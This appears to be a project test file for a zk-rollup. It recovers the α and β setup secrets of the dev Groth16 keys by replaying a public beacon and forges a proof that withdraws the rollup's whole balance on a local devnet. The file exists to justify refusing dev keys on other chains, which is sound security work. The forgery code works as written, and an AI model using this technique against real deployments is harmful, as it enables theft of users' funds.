import path from 'node:path'
import { pathToFileURL } from 'node:url'
import * as snarkjs from 'snarkjs'
import { type Address, zeroAddress } from 'viem'
import { generatePrivateKey, privateKeyToAccount } from 'viem/accounts'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { loadVerificationKey, type Proof, type ShieldedTransaction, terminateProver, transferPublicSignals, verifyTransfer } from '../../src/circuits/index.ts'
import { bn128 } from '../../src/circuits/curve.ts'
import { DEV_ALPHA_1, DEV_BETA_2, isDevKey, type KeyPoints } from '../../src/circuits/devKeys.ts'
import { BEACON, BEACON_ITERATIONS_EXP } from '../../src/circuits/setup.ts'
import { extDataHash } from '../../src/crypto/extData.ts'
import { FIELD_SIZE, randomFieldElement } from '../../src/crypto/field.ts'
import type { Outputs } from '../../src/crypto/note.ts'
import { initCrypto } from '../../src/crypto/poseidon.ts'
import { deposit } from '../../src/settlement/deposit.ts'
import { submitBatch } from '../../src/settlement/submitBatch.ts'
import { projectRoot } from '../helpers/circuit.ts'
import { Actor, type Devnet, MerkleTree, proveBatchFor, startDevnet } from '../helpers/rollup.ts'

// Attacker: anyone, with nothing but the public dev setup. The dev phase 1 is `powersoftau new`
// finished by a public beacon, so its secrets are the first draws of the beacon's RNG: τ, α, β.
// With α·β known and γ the G2 generator, A = (α·β)·G1 + X, B = G2, C = 0 satisfies
// e(A, B) = e(α, β)·e(X, γ)·e(C, δ) for X = IC₀ + Σ inputᵢ·ICᵢ, whatever the inputs: a
// "withdraw everything to me" spending notes that never existed verifies. No phase-2
// contribution helps (it changes δ only). This test performs the attack against the committed
// dev keys on the devnet, to document why `zkpay deploy`, `deployRollup` and `zkpay node`
// refuse those keys on any other chain, and why `zkpay ceremony` refuses a beacon-only phase 1.

type Curve = Awaited<ReturnType<typeof bn128>>
const ETH = 0n
let devnet: Devnet
let curve: Curve
let tree: MerkleTree

/** snarkjs's own beacon code (not exported by the package): the exact RNG the dev setup drew from. */
const snarkjsInternal = (file: string) => import(pathToFileURL(path.join(projectRoot, 'node_modules/snarkjs/src', file)).href)

/** Replays the dev phase 1's beacon: `powersoftau beacon` draws τ, α, β from this RNG, in that order. */
async function devToxicWaste(): Promise<{ alpha: unknown; beta: unknown }> {
  const misc = await snarkjsInternal('misc.js')
  const keyPair = await snarkjsInternal('keypair.js')
  const rng = await misc.rngFromBeaconParams(misc.hex2ByteArray(BEACON), BEACON_ITERATIONS_EXP)
  // The challenge hash only feeds the contribution's proof of knowledge, drawn after the secrets.
  const key = keyPair.createPTauKey(curve, new Uint8Array(64), rng)
  return { alpha: key.alpha.prvKey, beta: key.beta.prvKey }
}

/** A transfer proof for arbitrary public inputs, made from α and β alone (no witness, no proving key). */
function forge(secrets: { alpha: unknown; beta: unknown }, publicSignals: readonly bigint[]): { proof: Proof; snarkjsProof: snarkjs.Groth16Proof } {
  const { G1, G2, Fr } = curve
  const vk = loadVerificationKey('transfer') as { IC: string[][]; vk_gamma_2: string[][] }
  const ic = (i: number) => G1.fromObject(vk.IC[i]!.map(BigInt))
  let x = ic(0)
  publicSignals.forEach((s, i) => (x = G1.add(x, G1.timesFr(ic(i + 1), Fr.e(s)))))
  const a = G1.toObject(G1.toAffine(G1.add(G1.timesFr(G1.g, Fr.mul(secrets.alpha, secrets.beta)), x))) as bigint[]
  const b = G2.toObject(G2.toAffine(G2.g)) as bigint[][]
  expect(b.map((c) => c.map(String))).toEqual(vk.vk_gamma_2) // γ is the generator: that is what makes B = G2 work
  return {
    // The EVM's encoding: G2 limbs swapped, the point at infinity as (0, 0).
    proof: { a: [a[0]!, a[1]!], b: [[b[0]![1]!, b[0]![0]!], [b[1]![1]!, b[1]![0]!]], c: [0n, 0n] },
    snarkjsProof: {
      pi_a: [a[0]!, a[1]!, 1n].map(String),
      pi_b: b.map((c) => c.map(String)),
      pi_c: ['0', '1', '0'], // snarkjs's point at infinity
      protocol: 'groth16',
      curve: 'bn128',
    },
  }
}

beforeAll(async () => {
  await initCrypto()
  curve = await bn128()
  tree = new MerkleTree()
  devnet = await startDevnet()
})

afterAll(async () => {
  await devnet?.stop()
  await terminateProver()
})

describe('attacker: anyone who knows the dev setup', () => {
  it("behavior: derives the dev phase 1's α and β by replaying its public beacon; they are the committed keys' (why the dev keys are forgeable)", async () => {
    const { alpha, beta } = await devToxicWaste()
    const { G1, G2 } = curve
    const vk = loadVerificationKey('transfer') as KeyPoints
    const alpha1 = (G1.toObject(G1.toAffine(G1.timesFr(G1.g, alpha))) as bigint[]).slice(0, 2)
    const beta2 = (G2.toObject(G2.toAffine(G2.timesFr(G2.g, beta))) as bigint[][]).slice(0, 2)
    expect(alpha1.map(String)).toEqual(vk.vk_alpha_1.slice(0, 2))
    expect(beta2.map((c) => c.map(String))).toEqual(vk.vk_beta_2.slice(0, 2))
    expect(alpha1).toEqual([...DEV_ALPHA_1]) // the fingerprint isDevKey recognises
    expect(beta2).toEqual(DEV_BETA_2.map((c) => [...c]))
    expect(isDevKey(vk)).toBe(true)
  })

  it("behavior: forges a withdrawal of the rollup's whole balance spending no notes; with the dev keys snarkjs and the contract accept it, which is why they never leave the devnet", async () => {
    const [sequencer, aliceL1] = devnet.accounts as [(typeof devnet.accounts)[0], (typeof devnet.accounts)[0]]
    // An honest user funds the rollup: 1 ETH shielded, settled in a batch.
    const alice = new Actor(1)
    const amount = 10n ** 18n
    const { tx: aliceDeposit } = await alice.transact(tree, { asset: ETH, extAmount: amount })
    await deposit(aliceL1, { rollup: devnet.rollup, asset: zeroAddress, amount, extDataHash: aliceDeposit.extDataHash, commitments: aliceDeposit.commitments })
    const depositBatch = await proveBatchFor(tree, devnet.rollup, [aliceDeposit])
    await submitBatch(sequencer, depositBatch)
    depositBatch.commit()
    const balance = await devnet.publicClient.getBalance({ address: devnet.rollup })
    expect(balance).toBe(amount)

    // The thief owns no note. Public inputs of its choosing: the current root, random nullifiers,
    // random commitments, a withdrawal of everything to a fresh address.
    const thief: Address = privateKeyToAccount(generatePrivateKey()).address
    const extData = { ...aliceDeposit.extData, recipient: thief, extAmount: -balance, fee: 0n }
    const unproven = {
      root: tree.root,
      publicAmount: FIELD_SIZE - balance,
      publicAsset: ETH,
      extDataHash: extDataHash(extData),
      nullifiers: [randomFieldElement(), randomFieldElement()] as [bigint, bigint],
      commitments: [randomFieldElement(), randomFieldElement(), randomFieldElement()] as Outputs<bigint>,
      extData,
    }
    const signals = transferPublicSignals({ ...unproven, proof: undefined as never })
    const { proof, snarkjsProof } = forge(await devToxicWaste(), signals)
    const forged: ShieldedTransaction = { ...unproven, proof }

    // snarkjs's verifier, with the committed transfer verification key, accepts it ...
    const vkey = loadVerificationKey('transfer')
    expect(await snarkjs.groth16.verify(vkey, signals.map(String), snarkjsProof)).toBe(true)
    // ... for exactly the inputs it was forged for (it is a proof, not a verifier bug) ...
    expect(await snarkjs.groth16.verify(vkey, [signals[0]! + 1n, ...signals.slice(1)].map(String), snarkjsProof)).toBe(false)
    // ... and so does the node's admission verifier, which reads C = (0, 0) as the point at
    // infinity as the EVM does: no check can tell a forged proof from an honest one.
    expect(await verifyTransfer(proof, signals)).toBe(true)

    // And so does Rollup.sol. Submitted here with the sequencer's key, the shortest way onto the
    // chain; anyone gets the same batch in through the escape hatch, and the contract checks the
    // proof the same way whoever submits it.
    const batch = await proveBatchFor(tree, devnet.rollup, [forged])
    await submitBatch(sequencer, batch)
    batch.commit()
    expect(await devnet.publicClient.getBalance({ address: thief })).toBe(balance)
    expect(await devnet.publicClient.getBalance({ address: devnet.rollup })).toBe(0n) // Alice's note is now worth nothing
  })
})
